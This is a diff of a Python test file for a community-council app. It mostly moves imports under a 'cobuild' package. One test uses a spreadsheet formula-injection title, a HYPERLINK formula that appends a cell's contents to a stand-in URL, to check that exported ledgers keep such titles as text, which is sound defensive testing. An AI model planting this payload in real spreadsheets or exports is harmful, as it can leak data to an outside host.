@@ -13,12 +13,12 @@ from sqlmodel import select
 
 from cobuild.actions import items as it
 from cobuild.actions.council import add_channel, set_template, update_settings
-from cobuild.actions.reminders import sweep
-from models import ContactChannel, Delivery, InvalidInput, Item, ItemSubmit, Notification
-from notifications.channels import Channels
-from notifications.dispatch import dispatch
-from notifications.rendering import RenderLimitExceeded, check_override, render
-from notifications.samples import COMMON, SAMPLES
+from cobuild.models import ContactChannel, Delivery, InvalidInput, Item, ItemSubmit, Notification
+from cobuild.notifications.channels import Channels
+from cobuild.notifications.dispatch import dispatch
+from cobuild.notifications.rendering import RenderLimitExceeded, check_override, render
+from cobuild.notifications.samples import COMMON, SAMPLES
+from cobuild.sweep.run import sweep
 
 from .conftest import World, at
 
@@ -32,7 +32,7 @@ def two(session):
     for world in worlds:  # in step: moving the clock moves every council's cycle
         world.open_window()
     items = [world.submit("community") for world in worlds]
-    for world, item in zip(worlds, items):
+    for world in worlds:
         world.hold()
     for world, item in zip(worlds, items):
         world.accept(item)
@@ -138,7 +138,7 @@ def test_formula_like_titles_stay_text_in_the_ledger(world, tmp_path):
 
     from openpyxl import load_workbook
 
-    from cobuild.ledger import write_ledger
+    from cobuild.reports.ledger import write_ledger
 
     formula = '=HYPERLINK("http://example.org/?leak="&A2,"x")'
     item = world.published_item(title=formula)
@@ -204,7 +204,7 @@ def test_a_webhook_that_is_not_http_is_refused_when_added(world, address):
 def test_a_cycle_step_that_fails_for_one_council_does_not_stop_the_others(session, monkeypatch):
     from cobuild.actions import conferences as conference_actions
     from cobuild.actions.cycles import conference_cycle
-    from models import Conference
+    from cobuild.models import Conference
 
     first = World(session)
     second = World(session, name="第二社区大党委", community_name="第二社区", secretary_name="赵书记")
